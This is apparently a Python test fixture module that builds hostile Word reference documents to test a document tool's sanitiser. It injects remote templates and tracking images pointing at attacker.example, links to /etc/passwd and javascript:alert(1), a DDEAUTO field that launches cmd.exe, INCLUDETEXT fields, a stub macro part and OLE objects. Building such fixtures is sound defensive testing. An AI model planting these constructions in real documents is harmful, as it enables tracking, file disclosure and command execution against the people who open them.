"""Hostile reference documents, built in the test from briefgen's own reference.docx.

Each entry: name → function from the clean reference's parts (name → bytes) to the
hostile parts. The corpus of bad inputs is tests/corpus/ (see its README).
"""

from __future__ import annotations

import io
import zipfile

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
EMPTY_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"></Relationships>'
)
FOOTER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def add_rel(parts, rels_name: str, rel_id: str, kind: str, target: str, external=False):
    rels = parts.get(rels_name, EMPTY_RELS)
    mode = ' TargetMode="External"' if external else ""
    kind = kind if kind.startswith("http") else f"{RELS}/{kind}"
    rel = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'
    parts[rels_name] = rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_type(parts, part: str, content_type: str) -> None:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", override.encode() + b"</Types>"
    )


def in_section(parts, reference_xml: str) -> None:
    document = parts["word/document.xml"].decode()
    start = document.index("<w:sectPr")
    end = document.index(">", start) + 1
    parts["word/document.xml"] = (document[:end] + reference_xml + document[end:]).encode()


def header(parts, name: str, body: str, kind: str = "header", rel_id: str = "rIdH1") -> None:
    tag = "hdr" if kind == "header" else "ftr"
    parts[f"word/{name}"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:{tag} {W_NS} {R_NS} '
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f"{body}</w:{tag}>"
    ).encode()
    add_rel(parts, "word/_rels/document.xml.rels", rel_id, kind, name)
    add_type(parts, f"word/{name}", HEADER_TYPE if kind == "header" else FOOTER_TYPE)
    in_section(parts, f'<w:{kind}Reference w:type="default" r:id="{rel_id}"/>')


def complex_field(instruction: str, shown: str = "x") -> str:
    pieces = "".join(f"<w:r><w:instrText> {part} </w:instrText></w:r>" for part in instruction)
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + pieces
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + f"<w:r><w:t>{shown}</w:t></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )  # fmt: skip


def remote_template(parts):
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1
    )
    add_rel(parts, "word/_rels/settings.xml.rels", "rIdT", "attachedTemplate",
            "https://attacker.example/t.dotm", external=True)  # fmt: skip


def external_relationships(parts):
    rels = "word/_rels/document.xml.rels"
    add_rel(parts, rels, "rIdL", "hyperlink", "file:///etc/passwd", external=True)
    add_rel(parts, rels, "rIdI", "image", "https://attacker.example/track.png", external=True)
    add_rel(parts, rels, "rIdO", "oleObject", "https://attacker.example/x.bin", external=True)
    add_rel(parts, "_rels/.rels", "rIdX", "hyperlink", "javascript:alert(1)", external=True)


def fields_in_header(parts):
    header(parts, "header9.xml",
           '<w:p><w:r><w:t>Dept of Tests </w:t></w:r>'
           + complex_field(["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\""])
           + complex_field(["PAGE"], "1")
           + '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://attacker.example/p.png&quot; '
             '\\d "><w:r><w:t>p</w:t></w:r></w:fldSimple>'
           + complex_field(["INCLUDE", "TEXT \"file:///etc/passwd\""])
           + '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
           + "</w:p>")  # fmt: skip


def macros(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really OLE, still never copied"
    add_rel(
        parts,
        "word/_rels/document.xml.rels",
        "rIdV",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    add_type(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def ole_in_footer(parts):
    parts["word/embeddings/oleObject1.bin"] = b"OLE"
    add_rel(parts, "word/_rels/footer9.xml.rels", "rIdE", "oleObject",
            "embeddings/oleObject1.bin")  # fmt: skip
    add_rel(parts, "word/_rels/footer9.xml.rels", "rIdP", "image",
            "https://attacker.example/beacon.png", external=True)  # fmt: skip
    header(parts, "footer9.xml",
           '<w:p><w:r><w:t>Footer words</w:t></w:r><w:r><w:object>'
           '<v:shape id="s"><v:imagedata r:id="rIdP"/></v:shape>'
           '<o:OLEObject Type="Link" ProgID="Package" r:id="rIdE"/></w:object></w:r>'
           '<w:hyperlink r:id="rIdP"><w:r><w:t> linked</w:t></w:r></w:hyperlink></w:p>',
           kind="footer", rel_id="rIdF9")  # fmt: skip


def mail_merge(parts):
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom",
        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdM"/>'
        b"</w:mailMerge><w:zoom", 1,
    )  # fmt: skip
    add_rel(parts, "word/_rels/settings.xml.rels", "rIdM", "mailMergeSource",
            "file:///etc/passwd", external=True)  # fmt: skip


def picture_bullets(parts):
    parts["word/numbering.xml"] = parts["word/numbering.xml"].replace(
        b"<w:abstractNum ",
        b'<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-microsoft-'
        b'com:vml"><v:imagedata r:id="rIdB"/></v:shape></w:pict></w:numPicBullet>'
        b"<w:abstractNum ", 1,
    )  # fmt: skip
    add_rel(parts, "word/_rels/numbering.xml.rels", "rIdB", "image",
            "https://attacker.example/b.png", external=True)  # fmt: skip


HOSTILE = {
    "remote-attached-template": (remote_template, "an attached template"),
    "external-relationships": (external_relationships, "an external hyperlink link"),
    "fields-in-header": (fields_in_header, "field DDEAUTO"),
    "macros": (macros, "macros (vbaProject)"),
    "ole-and-links-in-footer": (ole_in_footer, "embedded objects"),
    "mail-merge-source": (mail_merge, "a mail-merge data source"),
    "picture-bullets": (picture_bullets, "an external image link"),
}


def hostile_reference(clean: bytes, name: str) -> bytes:
    parts = parts_of(clean)
    HOSTILE[name][0](parts)
    return zip_of(parts)
